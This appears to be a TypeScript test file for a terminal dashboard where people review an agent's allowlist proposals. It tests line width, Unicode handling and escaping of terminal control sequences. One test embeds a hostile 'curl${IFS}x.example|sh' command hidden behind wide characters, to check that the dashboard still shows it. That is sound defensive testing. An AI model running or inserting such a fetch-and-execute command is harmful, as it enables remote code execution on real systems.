import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { displayWidth } from '../../../src/cli/base/output.js';
import { broken } from '../../../src/cli/base/wrap.js';
import {
  withDecision,
  withDetail,
  withEffect,
  withLive,
  withProgress,
  withRowsAway,
  withSize,
} from '../../../src/tui/model/arrive.js';
import { cell, middle, safe } from '../../../src/tui/model/line.js';
import { diffLines } from '../../../src/tui/model/opened-text.js';
import { frameOf } from '../../../src/tui/view/frame.js';
import { shownProposal } from '../../support/supervise/shown.js';
import { detail, NOW, openedState, pressed, proposal, someState } from './some-state.js';

/** What ink measures with. */
const fromInk = createRequire(import.meta.resolve('ink'));
const { default: inkWidth } = (await import(fromInk.resolve('string-width'))) as {
  readonly default: (text: string) => number;
};

/** As the terminal would show it. */
function screen(state: Parameters<typeof frameOf>[0]): readonly string[] {
  const frame = frameOf(state);
  if (typeof frame === 'string') return [frame];
  const text = (line: (typeof frame)['title']): string => line.map((span) => span.text).join('');
  const body = frame.panes[0]?.lines.map((_, at) =>
    frame.panes.map(({ lines }) => text(lines[at] ?? [])).join(''),
  );
  return [text(frame.title), ...(body ?? []), text(frame.said), text(frame.keys)];
}

describe('the dashboard’s frame', () => {
  const many = Array.from({ length: 1_000 }, (_, n) => ({
    ...proposal(1),
    id: String(n).padEnd(32, '0'),
  }));

  it('fits the terminal, one line less, and no line is too long', () => {
    for (const state of [someState(many), openedState(), pressed(someState([]), '?').state]) {
      const lines = screen(state);
      assert.equal(lines.length, 23);
      for (const line of lines) assert.ok(displayWidth(line) <= 80, line);
    }
    assert.match(screen(withSize(someState([]), { columns: 59, rows: 24 }))[0] ?? '', /^59×24 is too small/);
  });

  it('has one page of a long list', () => {
    const lines = screen(pressed(someState(many), 'G').state).join('\n');
    assert.match(lines, /\[Proposals\] 991–999 of 1000|1000–1000 of 1000|992–1000 of 1000/);
    assert.ok((lines.match(/pipelock-block/g)?.length ?? 0) < 11);
  });

  it('tells what a run is at, from its workflow where that answers', () => {
    const state = withEffect(someState([proposal(1)]), proposal(1).ref, 'may connect to\u001b[2J');
    assert.match(screen(state).join('\n'), /running {2}4m {2}turn 2 {2}\$1\.23/);
    const live = new Map([['a', { phase: 'publishing', turn: 3, microUsd: 2_000_000 }]]);
    assert.match(screen(withLive(state, live, null)).join('\n'), /publishing {2}4m {2}turn 3 {2}\$2\.00/);
    assert.match(screen(state).join('\n'), /may connect to\\u\{1b\}\[2J/);
    assert.match(screen(withRowsAway(state, 'gone\u001b', NOW)).join('\n'), /gone\\u\{1b\}/);
  });

  it('has what it would do above what the agent says, and signs in every line of the difference', () => {
    const shown = shownProposal({
      justification: 'it would do this\n  nothing',
      proposed_file: `pypi.org\nx.example # ${'漢'.repeat(90)}\n`,
    });
    const lines = screen(withDetail(openedState(), proposal(1), { ...detail, shown }));
    const at = (pattern: RegExp): number => lines.findIndex((line) => pattern.test(line));
    assert.ok(at(/^it would do this/) < at(/^ {2}may connect to x\.example/));
    assert.ok(at(/^ {2}may connect/) < at(/^the agent says/));
    assert.equal(lines.filter((line) => line.startsWith('it would do this')).length, 1);
    assert.equal(
      lines.filter((line) => line.includes('漢')).every((line) => line.startsWith('  +')),
      true,
    );
  });

  it('says in full why a decision came to nothing, for which the line below has no room', () => {
    const why = `refused: the file has changed since, and then some more; your version is ${'/tmp/x'.repeat(20)}/allowlist`;
    const refused = withProgress(openedState(), proposal(1), { kind: 'failed', text: why });
    const lines = screen(refused);
    assert.match(lines.at(-2) ?? '', /^ 11111111 of a: refused: .*…$/);
    assert.ok(lines.join('').replaceAll(/\s/g, '').includes(why.replaceAll(' ', '')));
    // In the list it stands below the proposal's name.
    assert.match(screen(pressed(refused, 'escape').state).join('\n'), /│ {5}refused: the file has changed/);

    const decision = { slug: 'a', id: '1', status: 'failed', who: 'bob@desk', at: NOW } as const;
    const decided = withDecision(openedState(), proposal(1), { ...decision, ref: null, notesRef: null });
    const notes = 'it cannot be built\n\u001b[91mE: no walrus';
    const told = screen(withDetail(decided, proposal(1), { ...detail, notes })).join('\n');
    assert.match(
      told,
      /why it could not be built *\n {2}it cannot be built *\n {2}\\u\{1b\}\[91mE: no walrus/,
    );
  });
});

describe('a line of the dashboard', () => {
  it('shows what a terminal would obey, hide or heap up', () => {
    assert.equal(safe('a\u001b\u202e\u200b\t'), 'a\\u{1b}\\u{202e}\\u{200b}\\u{9}');
    assert.equal(safe('e\u0301\u0301\u0301\ufe0f'), 'e\u0301\u0301\\u{301}\\u{fe0f}');
    assert.equal(safe('é 漢字 👩'), 'é 漢字 👩');
  });

  it('is cut and filled by columns, not by characters', () => {
    assert.equal(cell('漢字', 6), '漢字  ');
    assert.equal(cell('漢字漢字', 6), '漢字… ');
    assert.equal(middle('coder-alice-demo-12-abcde', 11), 'coder…abcde');
    assert.deepEqual(broken('漢字漢字', 7, '  +'), ['  +漢字', '  +漢字']);
    assert.deepEqual(broken('', 7, '  +'), ['  +']);
  });

  it('is never wider for ink than for us: what does not fit, ink cuts', () => {
    const wider: string[] = [];
    // Behind these planes nothing is assigned but marks, which are shown by their numbers.
    for (let code = 0x20; code < 0x32_400; code += 1) {
      const point = String.fromCodePoint(code);
      if (safe(point) !== point) continue;
      for (const text of [point, `1${point}`])
        if (displayWidth(text) < inkWidth(text)) wider.push(code.toString(16));
    }
    assert.deepEqual(wider, []);
    assert.ok(displayWidth('\u{4ffff}') >= 2);
  }).timeout(60_000);

  it('hides nothing behind characters that are wide, heaped up or new', () => {
    const file = 'RUN : ';
    for (const filler of [
      '\u{17000}',
      '\u{a960}',
      '\u{1b000}',
      '\u{1f200}',
      '\ufe10',
      'ก\u0e33',
      'क\u093f',
      '\u{1fadf}',
    ]) {
      const lines = diffLines(`+${file}${filler.repeat(40)};curl\${IFS}x.example|sh;:\n`, 80);
      const texts = lines.map((spans) => spans.map(({ text }) => text).join(''));
      for (const text of texts) assert.ok(inkWidth(text) <= 80, text);
      assert.match(texts.map((text) => text.slice(3)).join(''), /;curl\$\{IFS\}x\.example\|sh;:$/);
    }
  });

  it('ends with what is typed, in whatever characters', () => {
    const step = { kind: 'reason', text: `${'漢'.repeat(100)}字` } as const;
    const state = openedState();
    const typed = screen({ ...state, opened: { ...(state.opened ?? assert.fail()), step } }).at(-2) ?? '';
    assert.match(typed, /漢字_$/);
    assert.ok(inkWidth(typed) <= 79 && inkWidth(typed) >= 78, typed);
  });
});
